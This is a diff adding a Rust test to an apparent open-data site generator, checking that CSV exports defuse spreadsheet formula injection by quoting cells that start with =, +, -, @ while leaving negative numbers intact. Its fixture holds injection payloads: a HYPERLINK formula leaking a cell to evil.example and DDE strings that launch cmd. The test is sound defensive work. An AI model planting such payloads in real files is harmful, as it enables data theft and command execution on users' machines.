@@ -144,6 +144,98 @@ fn goals_csv_opens_in_excel_with_quoted_japanese_text() {
     assert_eq!(r[lc("項目名")], "多様な市民活動の支援");
 }
 
+/// A goal whose text begins like a spreadsheet formula (CSV injection, OWASP).
+const FORMULA_GOAL: &str = r#"
+[[goals]]
+id = "formula"
+title = '=HYPERLINK("https://evil.example/?leak="&A1,"詳細はこちら")'
+field = "@SUM(1+1)*cmd|' /C calc'!A0"
+sections = ["企画課"]
+aim = "+cmd|' /C calc'!A0"
+status = "-2+3+cmd|' /C calc'!A0"
+
+  [[goals.indicators]]
+  id = "minus"
+  name = "-から始まる指標名"
+  unit = "=1+1"
+  baseline = -3.5
+  target = -1
+  actual = -2.25
+  better = "higher"
+"#;
+
+/// No cell of the open-data CSV files can run as a formula in Excel: a text cell that
+/// begins with = + - @ (or a tab or CR) starts with a single quote, while numbers —
+/// negative ones too — stay plain numbers.
+#[test]
+fn csv_cells_that_look_like_formulas_are_defused() {
+    let kikaku = format!(
+        "{}{FORMULA_GOAL}",
+        MINIMAL
+            .iter()
+            .find(|(p, _)| *p == "content/departments/kikaku/2021.toml")
+            .unwrap()
+            .1
+    );
+    let fx = Fixture::minimal_with(&[("content/departments/kikaku/2021.toml", kikaku.as_str())]);
+    let out = fx.built();
+    let title = r#"=HYPERLINK("https://evil.example/?leak="&A1,"詳細はこちら")"#;
+
+    let (bytes, goals) = read_csv(&out, "goals.csv");
+    let col = |rows: &[Vec<String>], name: &str| rows[0].iter().position(|h| h == name).unwrap();
+    let g = goals
+        .iter()
+        .find(|r| r[col(&goals, "目標ID")] == "formula")
+        .expect("formula goal row");
+    assert_eq!(g[col(&goals, "目標名")], format!("'{title}"));
+    assert_eq!(g[col(&goals, "分野")], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(g[col(&goals, "達成目標")], "'+cmd|' /C calc'!A0");
+    assert_eq!(g[col(&goals, "達成状況")], "'-2+3+cmd|' /C calc'!A0");
+    // In the file: the quoted field starts with the single quote, quotes doubled.
+    let raw = String::from_utf8_lossy(&bytes);
+    assert!(
+        raw.contains(r#","'=HYPERLINK(""https://evil.example/?leak=""&A1,""詳細はこちら"")","#),
+        "{raw}"
+    );
+
+    let (_, inds) = read_csv(&out, "indicators.csv");
+    let i = inds
+        .iter()
+        .find(|r| r[col(&inds, "指標ID")] == "minus")
+        .expect("indicator row");
+    assert_eq!(i[col(&inds, "目標名")], format!("'{title}"));
+    assert_eq!(i[col(&inds, "指標名")], "'-から始まる指標名");
+    assert_eq!(i[col(&inds, "単位")], "'=1+1");
+    // Negative numbers stay numbers.
+    assert_eq!(i[col(&inds, "基準値")], "-3.5");
+    assert_eq!(i[col(&inds, "目標値")], "-1");
+    assert_eq!(i[col(&inds, "実績")], "-2.25");
+
+    // Whatever the column: a cell that begins like a formula is a plain number.
+    for name in ["goals.csv", "indicators.csv", "goal_plans.csv"] {
+        let (_, rows) = read_csv(&out, name);
+        for cell in rows.iter().flatten() {
+            if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.len() > 1 {
+                assert!(cell.parse::<f64>().is_ok(), "{name}: {cell:?}");
+            }
+        }
+    }
+
+    // The pages and reports.json (not opened by spreadsheets) keep the text as written.
+    let json: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(out.join("data/reports.json")).unwrap()).unwrap();
+    let goal = json["reports"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .flat_map(|r| r["goals"].as_array().unwrap())
+        .find(|g| g["id"] == "formula")
+        .unwrap();
+    assert_eq!(goal["title"], title);
+    let doc = page(&out, "departments/kikaku/2021/index.html");
+    assert!(main_text(&doc).contains(title));
+}
+
 #[test]
 fn indicators_csv_has_plain_numbers_and_reports_json_has_unevaluated_as_null() {
     let fx = Fixture::minimal();
